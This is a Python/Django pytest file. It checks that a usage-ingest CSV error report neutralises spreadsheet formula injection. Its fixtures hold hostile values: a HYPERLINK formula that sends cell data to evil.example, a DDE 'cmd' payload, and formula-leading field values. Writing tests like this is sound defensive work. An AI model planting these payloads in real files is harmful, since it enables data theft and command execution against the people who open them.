"""The ingest error report cannot run a formula: the uploader names the file and writes the rows the
messages quote, and the person who downloads the report opens it in a spreadsheet."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from apps.tenancy.roles import Role

from .test_ingest import event, ndjson

pytestmark = pytest.mark.django_db

FILE_NAME = '=HYPERLINK(CONCAT("http:evil.example?",A1),"report").ndjson'  # no "/": uploads keep the base name


def test_the_error_csv_neutralises_the_file_name_and_keeps_line_numbers_numbers(
    catalog, django_capture_on_commit_callbacks, eager_celery
):
    client = catalog.login("a", Role.FINANCE_ANALYST)
    bad = event("p2", model="@SUM(A1:A9)", usage={"input_tokens": "-1+2"})
    upload = SimpleUploadedFile(FILE_NAME, ndjson(event("p1"), bad) + b"=cmd|' /C calc'!A0\n")
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post(reverse("usage:jobs", kwargs={"org_slug": "alpha"}), {"file": upload, "format": "auto"})
    assert created.status_code == 302

    response = client.get(created["Location"] + "errors.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["file", "line", "field", "message"]
    assert [row[:3] for row in rows[1:]] == [
        ["'" + FILE_NAME, "2", "usage.input_tokens"],
        ["'" + FILE_NAME, "3", "(json)"],
    ]
    # In the file itself: the name is quoted text with the neutralising quote, the line number a bare number.
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(CONCAT(""http:evil.example?"",A1),""report"").ndjson",2,')
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
